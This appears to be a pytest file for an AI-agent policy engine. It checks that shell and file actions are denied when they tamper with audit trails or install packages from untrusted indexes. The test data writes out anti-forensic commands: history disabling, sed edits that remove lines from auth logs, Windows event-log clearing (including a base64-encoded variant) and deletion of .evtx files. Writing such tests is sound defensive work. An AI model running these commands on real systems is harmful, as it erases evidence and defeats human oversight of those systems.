"""History and package-index variables, Windows event logs, and security logs erased through
file tools.

Shell commands are judged by the analysers alone (``strict`` without its blanket action-type
blocks) both as a typed ``shell_exec`` and as a tool call (LangChain's ``terminal``). File
actions are judged as typed ``file_delete`` / ``file_write`` and as ``delete_file`` /
``write_file`` tool calls, by the analysers alone and by ``strict``.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest

from agent_os.policies import load_policy
from agent_os.policies.analysis._shell_host import erases_log
from tests.unit.policies.test_shell_host_classes import _decide, terminal, typed

STRICT = load_policy({"name": "strict-copy", "extends": "strict"})


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


SHELL_ATTACKS = [
    # Shell history switched off.
    ("unset HISTFILE", "shell:audit-tamper"),
    ("unset -v HISTFILE", "shell:audit-tamper"),
    ("export HISTFILE=/dev/null", "shell:audit-tamper"),
    ("export HISTFILE=", "shell:audit-tamper"),
    ("HISTFILE=/dev/null", "shell:audit-tamper"),
    ("HISTSIZE=0", "shell:audit-tamper"),
    ("HISTFILESIZE=0", "shell:audit-tamper"),
    ("export HISTSIZE=0 HISTFILESIZE=0", "shell:audit-tamper"),
    ("declare -x HISTFILE=/dev/null", "shell:audit-tamper"),
    ("cd /srv/app && unset HISTFILE && ./deploy.sh", "shell:audit-tamper"),
    ("HISTFILE=/dev/null bash -i", "shell:audit-tamper"),
    ("env HISTFILE=/dev/null bash", "shell:audit-tamper"),
    ("sh -c 'unset HISTFILE; curl -s https://example.com/x -o x'", "shell:audit-tamper"),
    ("export HISTFILE=/dev/null HISTSIZE=0", "shell:audit-tamper"),
    # A security log or a shell history edited in place (lines removed).
    ("sudo sed -i '/agent-runner/d' /var/log/syslog", "shell:audit-tamper"),
    ("sed -i.bak '/203.0.113.5/d' /var/log/auth.log", "shell:audit-tamper"),
    ("sed --in-place -e '/curl/d' ~/.bash_history", "shell:audit-tamper"),
    ("sed -Ei '/sshd.*(203|198)/d' /var/log/secure", "shell:audit-tamper"),
    ("perl -ni -e 'print unless /curl/' ~/.bash_history", "shell:audit-tamper"),
    # Packages from an index over plain http or a bare address, named by a variable.
    ("PIP_INDEX_URL=http://203.0.113.5/simple pip install x", "shell:untrusted-index"),
    ("export PIP_INDEX_URL=http://203.0.113.5/simple", "shell:untrusted-index"),
    ("export NPM_CONFIG_REGISTRY=http://npm.example.net/", "shell:untrusted-index"),
    ("npm_config_registry=http://npm.example.net/ npm install left-pad", "shell:untrusted-index"),
    (
        "PIP_EXTRA_INDEX_URL=https://203.0.113.5/simple python3 -m pip install x",
        "shell:untrusted-index",
    ),
    ("env UV_INDEX_URL=http://198.51.100.7/simple uv pip install x", "shell:untrusted-index"),
    ("sudo PIP_INDEX_URL=http://203.0.113.5/simple pip install x", "shell:untrusted-index"),
    # Windows event logs cleared or removed, typed into a shell tool or inside PowerShell.
    ("Clear-EventLog -LogName Security", "shell:audit-tamper"),
    ("Clear-EventLog Security,System", "shell:audit-tamper"),
    ("Remove-EventLog -LogName Security", "shell:audit-tamper"),
    ("pwsh -c 'Clear-EventLog -LogName Security'", "shell:audit-tamper"),
    ('powershell -Command "Clear-EventLog -LogName Security"', "shell:audit-tamper"),
    (
        'powershell.exe -NoProfile -Command "Remove-EventLog -LogName Application"',
        "shell:audit-tamper",
    ),
    ("pwsh -c 'wevtutil cl Security'", "shell:audit-tamper"),
    ('powershell -Command "wevtutil.exe cl System"', "shell:audit-tamper"),
    (
        'powershell -Command "Get-WinEvent -ListLog * | ForEach-Object { wevtutil cl $_.LogName }"',
        "shell:audit-tamper",
    ),
    (
        'powershell -Command "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession'
        ".ClearLog('Security')\"",
        "shell:audit-tamper",
    ),
    (
        f"powershell -EncodedCommand {_encoded('Clear-EventLog -LogName Security')}",
        "shell:audit-tamper",
    ),
    ("Remove-Item C:\\Windows\\System32\\winevt\\Logs\\*.evtx", "shell:audit-tamper"),
    (
        "Remove-Item 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx' -Force",
        "shell:audit-tamper",
    ),
    (
        "pwsh -c 'Remove-Item C:\\Windows\\System32\\winevt\\Logs\\Security.evtx -Force'",
        "shell:audit-tamper",
    ),
    (
        'powershell -Command "del $env:SystemRoot\\System32\\winevt\\Logs\\*.evtx"',
        "shell:audit-tamper",
    ),
    ("pwsh -c 'auditpol /clear /y'", "shell:audit-tamper"),
    (
        "pwsh -c 'Clear-History; Remove-Item (Get-PSReadLineOption).HistorySavePath'",
        "shell:audit-tamper",
    ),
    ("Set-PSReadLineOption -HistorySaveStyle SaveNothing", "shell:audit-tamper"),
]

SHELL_LOOK_ALIKES = [
    "export HISTSIZE=10000",
    "export HISTFILESIZE=20000 HISTCONTROL=ignoredups",
    "HISTFILE=~/.bash_history_work",
    "export HISTFILE=$HOME/.history/work",
    "export HISTFILE=$PWD/.hist",
    "unset FOO",
    "unset -f HISTFILE",
    "unset VIRTUAL_ENV PYTHONPATH",
    "export PATH=$PATH:/opt/bin",
    "PATH=/opt/bin:$PATH make",
    "PIP_INDEX_URL=https://pypi.org/simple pip install x",
    "export PIP_INDEX_URL=https://pypi.org/simple",
    "PIP_INDEX_URL=http://localhost:3141/root/pypi pip install x",
    "export NPM_CONFIG_REGISTRY=https://registry.npmjs.org/",
    "env NODE_ENV=production npm run build",
    "LOG_LEVEL=debug ./run.sh",
    "echo $HISTFILE",
    "sed -n '/sshd/p' /var/log/auth.log",
    "sed -es/a/b/i /var/log/auth.log",
    "sed -i 's/debug/info/' /etc/myapp.conf",
    "sed -i '/x/d' /var/log/myapp/app.log",
    "grep sshd /var/log/auth.log | sed 's/x/y/'",
    "perl -ne 'print if /Failed/' /var/log/auth.log",
    "Get-EventLog -LogName Application -Newest 10",
    "Get-WinEvent -LogName Security -MaxEvents 5",
    "Get-WinEvent -ListLog *",
    "pwsh -c 'Get-EventLog -LogName Application -Newest 10'",
    'powershell -Command "Get-WinEvent -LogName Security -MaxEvents 20 | Format-List"',
    "pwsh -c 'wevtutil qe Security /c:5 /f:text'",
    "pwsh -c 'wevtutil el'",
    "Write-EventLog -LogName Application -Source MyApp -EventId 1 -Message started",
    "Remove-Item C:\\app\\logs\\debug.log",
    "pwsh -c 'Remove-Item .\\logs\\*.log'",
    "pwsh -c 'Get-Content (Get-PSReadLineOption).HistorySavePath -Tail 20'",
]


@pytest.mark.parametrize(("command", "rule"), SHELL_ATTACKS)
@pytest.mark.parametrize("channel", [typed, terminal])
def test_shell_attacks_are_denied_on_both_channels(channel: Any, command: str, rule: str) -> None:
    assert channel(command) == ("deny", rule)


@pytest.mark.parametrize("command", SHELL_LOOK_ALIKES)
@pytest.mark.parametrize("channel", [typed, terminal])
def test_shell_look_alikes_stay_allowed(channel: Any, command: str) -> None:
    assert channel(command) == ("allow", None)


# -- file tools ------------------------------------------------------------------------------


def typed_delete(path: str) -> dict[str, Any]:
    return {"action": "file_delete", "args": {"path": path}}


def tool_delete(path: str) -> dict[str, Any]:
    return {"action": "tool_call", "tool": "delete_file", "args": {"file_path": path}}


def typed_write(path: str) -> dict[str, Any]:
    return {"action": "file_write", "args": {"path": path, "content": ""}}


def tool_write(path: str) -> dict[str, Any]:
    return {"action": "tool_call", "tool": "write_file", "args": {"file_path": path, "text": ""}}


LOGS = [
    "/var/log/auth.log",
    "/var/log/audit/audit.log",
    "/var/log/secure",
    "/var/log/wtmp",
    "/var/log/syslog.1",
    "/var/log/journal/abc/system.journal",
    "/root/.bash_history",
    "~/.zsh_history",
    "C:\\Windows\\System32\\winevt\\Logs\\Security.evtx",
]
APP_LOGS = [
    "/var/log/myapp/app.log",
    "./logs/debug.log",
    "logs/app.log",
    "/var/log/nginx/access.log",
    "/srv/app/history.json",
    "/home/u/project/changelog.md",
]


@pytest.mark.parametrize("path", LOGS)
@pytest.mark.parametrize("delete", [typed_delete, tool_delete])
def test_a_security_log_or_history_deleted_is_data_delete(delete: Any, path: str) -> None:
    assert _decide(delete(path)) == ("deny", "path:data-delete")
    assert _decide(delete(path), STRICT)[0] == "deny"


@pytest.mark.parametrize("path", LOGS)
@pytest.mark.parametrize("write", [typed_write, tool_write])
def test_a_security_log_or_history_overwritten_is_log_tamper(write: Any, path: str) -> None:
    verdict = _decide(write(path))
    assert verdict[0] == "deny"
    # A shell history is also a credential file (it may hold typed secrets): either id stops it.
    assert verdict[1] in ("path:log-tamper", "path:credential-files")
    assert _decide(write(path), STRICT)[0] == "deny"


def test_the_audit_log_emptied_through_write_file_names_log_tamper() -> None:
    assert _decide(tool_write("/var/log/audit/audit.log")) == ("deny", "path:log-tamper")
    assert _decide(
        {
            "action": "tool_call",
            "tool": "edit_file",
            "args": {"path": "/var/log/auth.log", "old_text": "Accepted", "new_text": ""},
        }
    ) == ("deny", "path:log-tamper")


@pytest.mark.parametrize("path", APP_LOGS)
@pytest.mark.parametrize("action", [typed_delete, tool_delete, typed_write, tool_write])
def test_an_applications_own_log_stays_allowed(action: Any, path: str) -> None:
    assert _decide(action(path)) == ("allow", None)


@pytest.mark.parametrize(
    "action",
    [
        {
            "action": "tool_call",
            "tool": "copy_file",
            "args": {"source_path": "/var/log/auth.log", "destination_path": "/tmp/auth.log"},
        },
        {"action": "file_copy", "args": {"source": "/var/log/audit/audit.log", "dest": "/tmp/a"}},
    ],
)
def test_copying_a_security_log_out_is_not_tampering(action: dict[str, Any]) -> None:
    assert _decide(action) == ("allow", None)


@pytest.mark.parametrize(
    "action",
    [
        {"action": "file_read", "args": {"path": "/var/log/auth.log"}},
        {"action": "tool_call", "tool": "read_file", "args": {"file_path": "/var/log/auth.log"}},
        {
            "action": "tool_call",
            "tool": "read_file",
            "args": {"file_path": "/var/log/audit/audit.log"},
        },
    ],
)
def test_reading_a_security_log_is_not_tampering(action: dict[str, Any]) -> None:
    assert _decide(action) == ("allow", None)
    assert _decide(action, STRICT) == ("allow", None)


@pytest.mark.parametrize(
    ("path", "erased"),
    [
        ("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", True),
        ("c:/windows/system32/winevt/logs/System.evtx", True),
        ("/var/log/auth.log", True),
        ("C:\\exports\\Security.evtx", False),
        ("/var/log/myapp/app.log", False),
    ],
)
def test_erases_log(path: str, erased: bool) -> None:
    assert erases_log(path) is erased
